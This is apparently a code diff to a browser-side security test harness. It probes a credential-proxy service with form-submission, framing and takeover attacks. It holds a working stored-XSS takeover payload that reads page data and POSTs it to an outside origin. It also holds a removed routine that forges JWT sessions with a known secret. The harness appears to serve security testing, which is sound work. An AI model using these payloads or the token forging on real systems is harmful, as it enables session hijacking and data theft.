@@ -11,6 +11,8 @@ const control = (attack, call) => `${base}/~${name}-${attack}/_understudy/${call
 
 const seen = {};
 
+const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+
 /** What script learns of a request, if anything. */
 async function ask(url, options) {
   try {
@@ -31,7 +33,10 @@ function submit(url, enctype, fields = {}) {
     form.append(Object.assign(document.createElement("input"), { name: field, value }));
   }
   document.body.append(form);
-  return new Promise((resolve) => { target.onload = () => resolve(); form.submit(); });
+  const loaded = new Promise((resolve) => { target.onload = () => resolve(); });
+  form.submit();
+  // Nothing is loaded where the call succeeds without content.
+  return Promise.race([loaded, pause(5000)]);
 }
 
 /** Loads an element; settles whether it worked or not. */
@@ -45,17 +50,14 @@ function load(tag, members) {
   });
 }
 
-/** Whether a document is shown in a frame. At a fragment of it nothing is loaded anew, unless an error stands in its place. */
-async function isFramed(url) {
-  const frame = document.createElement("iframe");
-  const loaded = () => new Promise((resolve) => { frame.onload = () => resolve(false); });
-  const first = loaded();
-  frame.src = url;
-  document.body.append(frame);
-  await first;
-  const again = loaded();
-  frame.src = `${url}#again`;
-  return Promise.race([again, new Promise((resolve) => setTimeout(() => resolve(true), 3000))]);
+/** Asks for a document in a frame; whether it is shown there script cannot tell, but the browser does. */
+function frame(url) {
+  const element = document.createElement("iframe");
+  const loaded = new Promise((resolve) => { element.onload = () => resolve(); });
+  element.src = url;
+  document.body.append(element);
+  // Where a download comes instead, nobody says so.
+  return Promise.race([loaded, pause(5000)]);
 }
 
 /** What runs as a page of the server, if it runs: reads what is there, opens doors, and tells the place it came from. */
@@ -73,28 +75,6 @@ const takeover = (place) => `<!doctype html><script>
       method: "POST", mode: "no-cors", body: JSON.stringify({ takenOver: told }) });
   })();
 </script>`;
-
-const encoder = new TextEncoder();
-
-function base64url(bytes) {
-  return btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
-}
-
-/** A session by the vendor's own rules, whose secret is public. */
-async function session(at) {
-  const challenge = await (await fetch(`${at}/sessions/start`)).json();
-  const seconds = Math.floor(Date.now() / 1000);
-  const claims = {
-    sub: "stranger", nonce: challenge.nonce, iss: query.get("issuer"), aud: query.get("audience"), iat: seconds,
-    exp: seconds + 600,
-  };
-  const input = [{ alg: "HS256", typ: "JWT" }, claims].map((part) => base64url(encoder.encode(JSON.stringify(part)))).join(".");
-  const algorithm = { name: "HMAC", hash: "SHA-256" };
-  const key = await crypto.subtle.importKey("raw", encoder.encode(query.get("secret")), algorithm, false, ["sign"]);
-  const signature = base64url(new Uint8Array(await crypto.subtle.sign(algorithm, key, encoder.encode(input))));
-  const body = JSON.stringify({ authenticationId: challenge.authenticationId, authenticationToken: `${input}.${signature}` });
-  return (await fetch(`${at}/sessions`, { method: "POST", headers: { "Content-Type": "application/json" }, body })).json();
-}
 
 const attacks = {
   async forms() {
@@ -121,26 +101,23 @@ const attacks = {
   },
 
   async frames() {
-    seen.framed = {
-      health: await isFramed(`${base}/_understudy/health`),
-      refusal: await isFramed(`${base}/_understudy/nothing`),
-      vendor: await isFramed(`${base}/~${name}-frame/v2/credentials/nothing`),
-      nobody: await isFramed(`${base}/~${name}-frame/nobody`),
-    };
+    await frame(`${base}/_understudy/health`);
+    await frame(`${base}/_understudy/nothing`);
+    await frame(`${base}/~${name}-frame/v2/credentials/nothing`);
+    await frame(`${base}/~${name}-frame/nobody`);
   },
 
   /** Comes last: where it works, this page is gone. */
   async takeover() {
     const at = `${base}/~${name}-takeover/apispaces/${space}`;
-    const { token } = await session(at);
     const upload = async (place) => {
       const answer = await fetch(`${at}/content`, {
-        method: "POST", headers: { authorization: `Bearer ${token}`, "Content-Type": "text/html" }, body: takeover(place) });
+        method: "POST", headers: { authorization: `Bearer ${query.get("token")}`, "Content-Type": "text/html" }, body: takeover(place) });
       return (await answer.json()).url;
     };
-    seen.framed.upload = await isFramed(await upload("frame"));
+    await frame(await upload("frame"));
     location = await upload("window");
-    await new Promise((resolve) => setTimeout(resolve, 5000));
+    await pause(5000);
     seen.stayed = true;
   },
 };
